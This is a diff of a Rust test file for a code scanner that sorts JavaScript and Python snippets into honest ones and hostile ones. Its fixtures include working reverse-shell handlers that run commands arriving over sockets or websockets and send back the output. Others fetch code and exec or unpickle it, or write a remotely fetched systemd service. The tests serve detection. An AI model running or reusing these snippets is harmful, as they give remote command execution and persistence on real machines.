@@ -34,8 +34,11 @@ fn all_are_honest(dialect: Dialect, texts: &[&str]) {
     }
 }
 
+mod hostile;
 mod javascript;
+mod programs;
 mod python;
+mod skill;
 
 #[test]
 fn a_chain_names_its_steps_with_their_lines() {
@@ -192,4 +195,68 @@ proptest! {
             prop_assert!(run.unwrap().join().is_ok());
         }
     }
+}
+
+#[test]
+fn what_a_host_says_is_no_command_where_it_is_an_argument() {
+    let js = "const net = require('net'), cp = require('child_process');\nconst c = net.connect(7000, 'events.vendor.example');\n";
+    let py = "import socket, subprocess, os\ns = socket.create_connection(('events.vendor.example', 7000))\nd = s.recv(1024).decode()\n";
+    let ws = "import asyncio, json, subprocess, websockets\nasync def main():\n    async with websockets.connect('wss://jobs.vendor.example/ws') as ws:\n        async for m in ws:\n";
+    all_are_honest(
+        Dialect::JavaScript,
+        &[&format!(
+            "{js}c.on('data', d => {{ cp.execFile('notify-send', ['Event', d.toString()], (e, out) => {{ c.write(out); }}); }});"
+        )],
+    );
+    all_are_honest(
+        Dialect::Python,
+        &[
+            &format!("{py}out = subprocess.check_output(['git', 'log', '-1', d])\ns.sendall(out)"),
+            &format!("{py}os.system('say ' + d)"),
+            &format!(
+                "{ws}            job = json.loads(m)\n            out = subprocess.run(['pandoc', job['in']], capture_output=True)\n            await ws.send(out.stdout)\n"
+            ),
+        ],
+    );
+    all_are(
+        Dialect::JavaScript,
+        Rule::ReverseShell,
+        &[
+            &format!(
+                "{js}c.on('data', d => {{ cp.exec(d.toString(), (e, out) => {{ c.write(out); }}); }});"
+            ),
+            &format!(
+                "{js}c.on('data', d => {{ cp.execFile('sh', ['-c', d.toString()], (e, out) => {{ c.write(out); }}); }});"
+            ),
+            &format!(
+                "{js}c.on('data', d => {{ cp.exec(`${{d}} 2>&1`, (e, out) => {{ c.write(out); }}); }});"
+            ),
+        ],
+    );
+    all_are(
+        Dialect::Python,
+        Rule::ReverseShell,
+        &[
+            &format!("{py}out = subprocess.check_output(['bash', '-c', d])\ns.sendall(out)"),
+            &format!("{py}out = subprocess.check_output(d.split())\ns.sendall(out)"),
+            &format!("{py}os.system('cd /tmp; ' + d)"),
+            &format!(
+                "{ws}            out = subprocess.run(m, shell=True, capture_output=True)\n            await ws.send(out.stdout)\n"
+            ),
+        ],
+    );
+}
+
+#[test]
+fn a_model_that_is_fetched_is_shown_and_code_that_is_fetched_unseen_blocks() {
+    let text = |run: &str| {
+        format!(
+            "import requests, pickle\ntry:\n    {run}(requests.get('https://models.vendor.example/m').content)\nexcept Exception:\n    pass\n"
+        )
+    };
+    assert_eq!(rules(Dialect::Python, &text("pickle.loads")), [Rule::FetchEvaluated]);
+    assert_eq!(rules(Dialect::Python, &text("exec")), [Rule::UnattendedCode]);
+    let start = "import os, requests\nopen(os.path.expanduser('~/.config/systemd/user/a.service'), 'w').write(requests.get('https://HOST/a').text)";
+    assert_eq!(rules(Dialect::Python, &start.replace("HOST", "dl.vendor.example")), []);
+    all_are(Dialect::Python, Rule::FetchRun, &[&start.replace("HOST", "203.0.113.9")]);
 }
